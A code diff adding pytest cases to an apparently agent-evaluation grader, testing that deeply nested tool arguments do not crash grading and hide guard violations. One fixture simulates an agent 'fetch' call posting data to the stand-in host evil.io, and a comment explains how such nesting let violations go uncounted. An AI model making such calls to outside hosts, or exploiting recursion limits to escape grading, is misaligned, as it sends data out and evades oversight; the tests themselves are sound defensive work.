@@ -4,6 +4,9 @@ it never crashes into ERROR on it, and never passes it as JSON."""
 
 from __future__ import annotations
 
+import json
+
+import pytest
 import re2
 from validator_helpers import run, status
 
@@ -76,3 +79,75 @@ def test_nan_in_a_returned_json_file_is_not_json():
 
 def test_a_string_holding_nan_is_still_json():
     assert status(run("json_schema", '{"n": "NaN"}', '{"type": "object"}')) == "PASSED"
+
+
+def _deep(depth: int, leaf: object = "x") -> object:
+    value = leaf
+    for _ in range(depth):
+        value = {"a": value}
+    return value
+
+
+def _guarded(response: dict):
+    rules = {
+        "allowed_hosts": ["docs.python.org"],
+        "job": [{"label": "plan", "validator": "pattern_match", "where": "job_plan", "pattern": "x"}],
+    }
+    spec = {
+        "validators": [
+            {"key": "calls", "type": "contains", "target": "tool_calls", "expected_from": "literal:evil.io"}
+        ],
+        "rules": rules,
+    }
+    return _grade(response, spec)
+
+
+@pytest.mark.parametrize("depth", [300, 600, 950])
+def test_deeply_nested_tool_arguments_do_not_hide_a_guard_violation(depth):
+    # An agent's arguments may parse about 1,000 levels deep; walking them (canonical JSON, the
+    # derived task plan, the guard's URL search) went past the interpreter's recursion limit and
+    # the whole case became ERROR, excluded from pass rates: the violation was never counted.
+    for args in (_deep(depth), json.dumps(_deep(depth))):
+        calls = [
+            {"name": "fetch", "args": {"url": "https://evil.io/x", "body": args}},
+            {"name": "TodoWrite", "args": args},
+        ]
+        g = _guarded({"final_output": "done", "tool_calls": calls})
+        assert g.message is None, g.message
+        assert g.status.value == "FAILED"
+        guard = g.expectations[0]
+        assert guard.key == "rules.allowed_hosts" and guard.status.value == "FAILED"
+        assert "'evil.io'" in guard.evidence
+        assert {e.key: e.status.value for e in g.expectations}["calls"] == "PASSED"
+
+
+@pytest.mark.parametrize("depth", [300, 950])
+def test_a_deeply_nested_final_output_value_is_graded(depth):
+    ev = evidence_from_response({"final_output": _deep(depth)})
+    spec = {
+        "validators": [
+            {"key": "x", "type": "contains", "target": "final_output", "expected_from": "literal:x"}
+        ]
+    }
+    g = grade_case(ev, CaseDef("ch", "c"), spec, context=CTX)
+    assert g.message is None and g.expectations[0].status.value in ("PASSED", "FAILED")
+
+
+def test_nan_in_a_final_output_value_reads_as_null_as_stored():
+    # json reads {"final_output": {"n": NaN}}; the stored evidence holds null (runs.storable), and
+    # a re-grade must give what the live grade gave.
+    ev = evidence_from_response({"final_output": {"n": float("nan"), "m": [float("inf")]}})
+    assert ev.final_output_value == {"n": None, "m": [None]}
+    schema = '{"properties": {"n": {"type": "number"}}}'
+    spec = {
+        "validators": [
+            {
+                "key": "s",
+                "type": "json_schema",
+                "target": "final_output",
+                "expected_from": "literal:" + schema,
+            }
+        ]
+    }
+    g = grade_case(ev, CaseDef("ch", "c"), spec, context=CTX)
+    assert g.expectations[0].status.value == "FAILED"
